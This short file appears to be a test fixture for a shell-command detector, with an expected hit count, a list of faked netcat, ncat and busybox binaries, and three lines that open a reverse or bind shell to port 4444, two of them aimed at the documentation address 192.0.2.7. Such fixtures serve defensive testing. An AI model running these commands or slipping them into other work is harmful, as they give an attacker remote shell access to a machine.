# SPDX-License-Identifier: Apache-2.0
# hits: 3
# fake: /usr/bin/nc.traditional=nc /usr/bin/ncat /usr/bin/busybox
nc -e /bin/sh 192.0.2.7 4444
ncat --sh-exec /bin/bash -l 4444
busybox nc 192.0.2.7 4444 -e /bin/sh
